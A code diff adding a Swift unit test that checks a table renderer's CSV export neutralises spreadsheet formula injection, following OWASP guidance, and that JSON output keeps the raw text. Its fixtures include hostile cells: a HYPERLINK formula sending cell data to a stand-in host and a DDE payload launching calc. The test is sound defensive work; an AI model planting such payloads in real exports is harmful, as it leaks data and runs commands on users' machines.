@@ -93,6 +93,38 @@ final class TableRendererTests: XCTestCase {
         XCTAssertEqual(records?.map(\.fields), [["v"]] + cells.filter { !$0.isEmpty }.map { [$0] })
     }
 
+    /// OWASP's CSV injection guidance: a text cell that begins with = + - @
+    /// TAB or CR is written with a leading single quote and quoted; numbers,
+    /// negative ones included, text that is a plain decimal, and the lone dash
+    /// of "no status" stay as they are.
+    func testCSVNeutralisesCellsASpreadsheetWouldRunAsFormulas() throws {
+        let hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ver\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                       "\tTAB=1", "\rCR", "\nLF", "=1,=2", "say \"=\""]
+        let t = Table(columns: [Column("v", "v"), Column("n", "n")],
+                      rows: hostile.map { [.text($0), .number(d("-12.5"))] } + [[.text("-12.5"), .integer(-3)], [.text("-"), .null],
+                                                                              [.text("a=b"), .number(d("0"))]])
+        let csv = TableRenderer.csv(t, byteOrderMark: false)
+        XCTAssertEqual(csv, "v,n\r\n" + [
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ver\"\")\",-12.5", "\"'+1+cmd|' /C calc'!A0\",-12.5", "\"'-2+3\",-12.5",
+            "\"'@SUM(A1:A9)\",-12.5", "\"'\tTAB=1\",-12.5", "\"'\rCR\",-12.5", "\"'\nLF\",-12.5", "\"'=1,=2\",-12.5",
+            "\"say \"\"=\"\"\",-12.5", "-12.5,-3", "-,", "a=b,0",
+        ].map { $0 + "\r\n" }.joined())
+        // Every field read back begins with a quote or with a character no spreadsheet reads as a formula.
+        let records = try CSV.parse(Array(csv.utf8), separator: UInt8(ascii: ",")).get()
+        XCTAssertEqual(records.count, hostile.count + 4)
+        for r in records.dropFirst() {
+            XCTAssertFalse(r.fields[0].first.map { "=+@\t\r\n".contains($0) } ?? false, "\(r.fields[0])")
+            if r.fields[0].hasPrefix("'") { XCTAssertTrue(hostile.contains(String(r.fields[0].dropFirst()))) }
+        }
+        // Without neutralising (the CSV of snapshots in formats 1 and 2) the bytes are as before.
+        XCTAssertEqual(TableRenderer.csv(Table(columns: [Column("v", "v")], rows: [[.text("=1+1")]]), byteOrderMark: false,
+                                         neutralisingFormulas: false), "v\r\n=1+1\r\n")
+        // JSON keeps the exact text.
+        var w = JSONWriter()
+        TableRenderer.writeJSONRows(t, &w)
+        XCTAssertTrue(w.text.hasPrefix("[{\"v\":\"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"ver\\\")\",\"n\":-12.5}"), w.text)
+    }
+
     // MARK: JSON
 
     func testJSONRowsAreKeyedByColumnWithExactNumbers() throws {
